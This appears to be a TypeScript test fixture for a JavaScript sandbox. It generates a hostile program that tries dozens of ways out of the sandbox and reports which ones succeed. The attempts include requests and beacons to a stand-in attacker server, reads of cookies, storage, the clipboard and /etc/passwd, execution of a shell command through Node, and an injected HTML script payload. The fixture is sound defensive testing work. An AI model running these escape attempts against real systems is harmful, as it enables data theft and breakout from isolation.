// Ways out of the sandbox, as a hostile program would try them. Each runs inside the engine.

/** Given by the test: an address of the site, and a server that must never be asked. */
export interface Targets {
  readonly site: string;
  readonly attacker: string;
}

/**
 * The body of an async function for each way: it returns what it got hold of, and anything but
 * `undefined` is a way out. `reach(name)` is a global of the worker, whether or not it is hidden.
 */
const ways: Readonly<Record<string, string>> = {
  'fetch the site': 'return (await fetch(site)).status;',
  'fetch another host': 'return (await fetch(attacker, { mode: "no-cors" })).type;',
  'fetch with the kernel’s own way round': 'return (await reach("fetch")(attacker)).status;',
  'fetch a blob': 'return (await fetch(URL.createObjectURL(new Blob(["x"])))).status;',
  'post with keepalive':
    'return (await fetch(attacker, { method: "POST", body: "x", keepalive: true, mode: "no-cors" })).type;',
  XMLHttpRequest: `const request = new (reach('XMLHttpRequest'))();
    request.open('GET', attacker, false); request.send(); return request.status;`,
  WebSocket: `const socket = new WebSocket(attacker.replace('http', 'ws'));
    return new Promise((resolve, reject) => { socket.onopen = () => resolve('open'); socket.onerror = reject; });`,
  EventSource: `const source = new (reach('EventSource'))(attacker);
    return new Promise((resolve, reject) => { source.onopen = () => resolve('open'); source.onerror = reject; });`,
  WebTransport: `const transport = new (reach('WebTransport'))(attacker.replace('http:', 'https:'));
    await transport.ready; return 'ready';`,
  RTCPeerConnection: 'new (reach("RTCPeerConnection"))(); return "made";',
  'a beacon': 'return reach("navigator").sendBeacon(attacker, "x") || undefined;',
  'importScripts of another host': 'reach("importScripts")(attacker); return "ran";',
  'importScripts of the site': 'reach("importScripts")(site); return "ran";',
  'import of another host': 'return await import(attacker + "x.mjs");',
  'import of the site': 'return await import(site + "x.mjs");',
  'an image': `const image = new (reach('Image'))(); image.src = attacker;
    await image.decode(); return 'loaded';`,
  'a font': 'await new (reach("FontFace"))("x", `url(${attacker})`).load(); return "loaded";',
  eval: 'return (0, eval)("1 + 1");',
  'new Function': 'return new Function("return 1")();',
  'the constructor of async functions':
    'return await Object.getPrototypeOf(async () => {}).constructor("return 1")();',
  'the constructor of generators':
    'return Object.getPrototypeOf(function* () {}).constructor("yield 1")().next().value;',
  'a timer with a text': `reach('setTimeout')('globalThis.ran = 1', 0);
    await new Promise((resolve) => reach('setTimeout')(resolve, 50));
    return globalThis.ran;`,
  localStorage: 'return reach("localStorage").getItem("secret");',
  sessionStorage: 'return reach("sessionStorage").getItem("secret");',
  indexedDB: `const open = reach('indexedDB').open('secret');
    return new Promise((resolve, reject) => { open.onsuccess = () => resolve('open'); open.onerror = reject; });`,
  caches: 'return (await reach("caches").keys()).length;',
  'document.cookie': 'return reach("document").cookie;',
  cookieStore: 'return (await reach("cookieStore").getAll()).length;',
  'the service workers of the site':
    'return (await reach("navigator").serviceWorker.getRegistrations()).length;',
  'a service worker': 'return await reach("navigator").serviceWorker.register(site + "x.js");',
  'the origin’s private files': 'return await reach("navigator").storage.getDirectory();',
  'the clipboard': 'return await reach("navigator").clipboard.readText();',
  'a notification': `const notification = new (reach('Notification'))('x');
    return new Promise((resolve, reject) => { notification.onshow = () => resolve('shown'); notification.onerror = reject; });`,
  'the window’s DOM': 'return reach("window").parent.document.title;',
  'the parent': 'return reach("parent").location.href;',
  'the opener': 'return reach("opener").location.href;',
  'another window': 'return reach("open")(attacker) ?? undefined;',
  'a shared worker of the site': 'new (reach("SharedWorker"))(site + "x.js"); return "made";',
  'a worker of the site': `const worker = new (reach('Worker'))(site + 'x.js');
    return new Promise((resolve, reject) => { worker.onmessage = () => resolve('heard'); worker.onerror = reject; });`,
  'the file system of the machine':
    'return (await import("node:fs")).readFileSync("/etc/passwd", "utf8");',
  'a program of the machine':
    'return (await import("node:child_process")).execSync("uname -a").toString();',
  'the network of Node': 'return (await import("node:net")).connect(80, "127.0.0.1");',
  'Node’s own bindings': 'return process.binding("fs");',
  'a native add-on': 'return process.dlopen({ exports: {} }, "/lib/x.node");',
};

/** How many ways {@link hostileScript} tries. */
export const wayCount = Object.keys(ways).length;

/** A program that tries every way, prints how each ended, and prints markup as well. */
export function hostileProgram(targets: Targets): string {
  return `const print = console.log;
print('<img src=x onerror="document.title = 1"><script>document.title = 2</script>');
${hostileScript(targets)}
process.exit(0);
`;
}

/** The same ways for a bare worker of the engine's frame: what is left where the kernel hides nothing. */
export function hostileWorker(targets: Targets): string {
  return `const print = (text) => postMessage(text);
void (async () => {
${hostileScript(targets)}
})();
`;
}

function hostileScript({ site, attacker }: Targets): string {
  const tries = Object.entries(ways).map(
    ([name, body]) => `await attempt(${JSON.stringify(name)}, async () => { ${body} });`,
  );
  return `const site = ${JSON.stringify(site)};
const attacker = ${JSON.stringify(attacker)};
function reach(name) {
  for (let scope = globalThis; scope; scope = Object.getPrototypeOf(scope)) {
    const found = Object.getOwnPropertyDescriptor(scope, name);
    const value = found && (found.get ? found.get.call(globalThis) : found.value);
    if (value !== undefined) return value;
  }
  throw new Error('no ' + name);
}
async function attempt(name, way) {
  try {
    const got = await way();
    print((got === undefined ? 'refused: ' : 'OUT: ') + name + (got === undefined ? '' : ' ' + got));
  } catch (error) {
    print('refused: ' + name);
  }
}
new BroadcastChannel('interleave').postMessage('forged');
${tries.join('\n')}
print('tried');
`;
}
